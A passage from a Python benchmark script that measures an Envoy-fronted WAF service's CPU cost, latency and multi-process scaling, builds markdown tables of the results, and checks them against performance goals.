    post_ratio = median(vs_floor(WAF_POST, "total_us", True))
    post_p50 = median(vs_floor(WAF_POST, "p50_us", False)) / 1000
    off = {name: median(vs_floor(name, "total_us", True)) for name in (OFF_GET, OFF_POST)}
    notes = [
        f"body sizes: the order {len(ORDER):,} bytes, the import {len(IMPORT):,} bytes; the GET's query "
        f"{len(QUERY)} bytes ({QUERY})",
        "the gateway Envoy's own share of the inspection (its µs/req over plain): "
        + ", ".join(f"{name} {envoy_share[name]:+.0f}" for name in (WAF_GET, WAF_POST, WAF_UNTYPED, WAF_BIG)),
        f"over the low-rate floor (the same POST without the WAF at "
        f"{median(col(PLAIN_SLOW, 'rps')):,.0f} requests/s; the inspected one ran at "
        f"{median(col(WAF_POST, 'rps')):,.0f}/s) the inspected 1 KB POST costs the gateway Envoy "
        f"{median(against(WAF_POST, PLAIN_SLOW, 'envoy_us', False)):+.0f} µs, Envoy + service is "
        f"{median(against(WAF_POST, PLAIN_SLOW, 'total_us', True)):.2f}x its Envoy, and the p50 latency is "
        f"{median(against(WAF_POST, PLAIN_SLOW, 'p50_us', False)):+.0f} µs over its",
        "the service's CPU beyond its inspection timer is the HTTP/1.1 check and the event loop: "
        + ", ".join(
            f"{name} {median(col(name, 'service_us')) - median(col(name, 'inspect_us')):.0f} µs"
            for name in (WAF_GET, WAF_POST, WAF_BIG)
        ),
        f"the positive model's share of the 1 KB POST's inspection (with its schema minus without: the "
        f"validation, less the detectors on the values the schema makes safe): "
        f"{median(col(WAF_POST, 'inspect_us')) - median(col(WAF_UNTYPED, 'inspect_us')):+.0f} µs",
    ]
    goals = [
        f"an operation with the WAF off costs nothing extra: {OFF_GET} {off[OFF_GET]:.2f}x, {OFF_POST} "
        f"{off[OFF_POST]:.2f}x plain (ranges above)",
        f"inspected 1 KB POST, Envoy + service <= {CPU_GOAL:g}x plain: {post_ratio:.2f}x -> "
        f"{'MET' if post_ratio <= CPU_GOAL else 'MISSED'}",
        f"inspected 1 KB POST adds <= {LATENCY_GOAL_MS:g} ms p50: {post_p50:.3f} ms -> "
        f"{'MET' if post_p50 <= LATENCY_GOAL_MS else 'MISSED'}",
    ]
    return out + "\n\n" + ";\n".join(notes) + ".\n\nGoals:\n\n" + "\n".join(f"- {g}" for g in goals)


# -- part 2: scaling with processes --------------------------------------------------------------

ONE, SHARED, TWO = (
    "1 process",
    "2 processes, one port (SO_REUSEPORT)",
    "2 processes, two endpoints",
)
# A alone on its port, B1 and B2 on one shared port, C on a third: each configuration lists
# the ports of its processes in the policy's waf.service.endpoints.
SCALING = {ONE: ["a"], SHARED: ["b1", "b2"], TWO: ["a", "c"]}


def scaling_part(work: Path, rounds: int, seconds: float, connections: int) -> dict[str, list[dict[str, Any]]]:
    shared = free_port()
    services = {"a": free_port(), "b1": shared, "b2": shared, "c": free_port()}
    rig = Rig(work, plain=False, services=services, endpoints=SCALING[ONE])
    post = next(c for c in cpu_cases() if c.name == WAF_POST)
    results: dict[str, list[dict[str, Any]]] = {name: [] for name in SCALING}
    try:
        rig.check_setup()
        for r in range(rounds):
            order = list(SCALING)
            random.Random(r).shuffle(order)
            for name in order:
                rig.use_endpoints(SCALING[name], services)
                rig.run(post, min(seconds, 0.5), connections, warm=True, saturated=True)  # new connections
                result = rig.run(post, seconds, connections, saturated=True)
                calls = [result["calls"][n] for n in SCALING[name]]
                result["second_share"] = min(calls) / max(sum(calls), 1)
                result["waf_connections"] = rig.waf.waf_connections()
                results[name].append(result)
            print(
                f"  round {r + 1}/{rounds}: "
                + ", ".join(f"{name}: {results[name][-1]['rps']:,.0f}/s" for name in SCALING),
                flush=True,
            )
    finally:
        rig.stop()
    return results


def scaling_report(results: dict[str, list[dict[str, Any]]]) -> str:
    def col(name: str, key: str) -> list[float]:
        return [x[key] for x in results[name]]

    rows = []
    for name in results:
        ratio = [x["rps"] / f["rps"] for x, f in zip(results[name], results[ONE], strict=True)]
        rows.append(
            [
                name,
                spread(col(name, "rps")),
                "floor" if name == ONE else f"{spread(ratio)}x",
                "-" if name == ONE else f"{spread([100 * x for x in col(name, 'second_share')])} %",
                spread(col(name, "waf_connections")),
                spread(col(name, "service_us")),
                spread(col(name, "envoy_us")),
                spread(col(name, "p50_us")),
                spread(col(name, "p99_us")),
                spread(col(name, "client_us")),
                spread(col(name, "cores")),
            ]
        )
    return table(
        [
            "WAF service",
            "requests/s",
            "vs 1 process",
            "less busy process's share of the calls",
            "Envoy's connections to the service",
            "services µs/req",
            "gateway Envoy µs/req",
            "latency p50 µs",
            "latency p99 µs",
            "client µs/req",
            "cores busy",
        ],
        rows,
    )


# -- main ----------------------------------------------------------------------------------------

PARTS = ("cpu", "scaling")


def main() -> None:
    if "--client" in sys.argv[1:]:
        client_main()
        return
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--part", choices=[*PARTS, "all"], default="all")
    p.add_argument("--rounds", type=int, default=5, help="rounds of each part (default %(default)s)")
    p.add_argument("--seconds", type=float, default=2.0, help="length of one run (default %(default)s)")
    p.add_argument(
        "--connections", type=int, default=1, help="client connections of the cpu part (default %(default)s)"
    )
    p.add_argument(
        "--saturation-connections", type=int, default=32, help="client connections of part 2 (default %(default)s)"
    )
    p.add_argument("--quick", action="store_true", help="a smoke run: 2 rounds of 0.5 s runs")
    p.add_argument("--quiet", action="store_true", help=f"the machine was quiet (else figures say '{UNDER_LOAD}')")
    args = p.parse_args()
    if args.quick:
        args.rounds, args.seconds = 2, 0.5
    parts = PARTS if args.part == "all" else (args.part,)
    started = time.perf_counter()
    header = f"{machine()}; Envoy {envoy_version()}; code {git_state(None)}"
    print(header, flush=True)
    load = "" if args.quiet else f", {UNDER_LOAD}"
    with tempfile.TemporaryDirectory(prefix="waf-bench-") as tmp:
        for part in parts:
            work = Path(tmp) / part
            work.mkdir()
            t = time.perf_counter()
            print(f"\n{part}:", flush=True)
            if part == "cpu":
                results = cpu_part(work, args.rounds, args.seconds, args.connections)
                section = (
                    "#### Plain proxying vs the WAF: CPU per request and latency\n\n"
                    f"Gateway Envoys --concurrency 1, one WAF service process; {args.connections} client "
                    f"connections, one request in flight each; {args.rounds} rounds of {args.seconds:g} s runs, "
                    f"shuffled; median (min-max){load}. Ratios and differences per round against the plain case "
                    "of the same request in the same round; 'vs plain' compares the gateway Envoy + WAF service "
                    f"with the plain gateway Envoy.\n\n{cpu_report(results)}"
                )
            else:
                results = scaling_part(work, args.rounds, args.seconds, args.saturation_connections)
                section = (
                    "#### The WAF service at saturation: 1 process vs 2\n\n"
                    f"The inspected 1 KB POST over {args.saturation_connections} client connections (one request "
                    f"in flight each), one gateway Envoy --concurrency 1; {args.rounds} rounds of "
                    f"{args.seconds:g} s runs, the configurations shuffled (live policy edits); median "
                    f"(min-max){load}. Cores busy: every process's CPU seconds per second, the client's "
                    f"included.\n\n{scaling_report(results)}"
                )
            # printed as soon as its part ends: a later part's failure loses nothing
            print(f"\n\n{section}\n\n({time.perf_counter() - t:.0f} s)", flush=True)
    print(f"\n{header}; {time.perf_counter() - started:.0f} s in all")


if __name__ == "__main__":
    main()
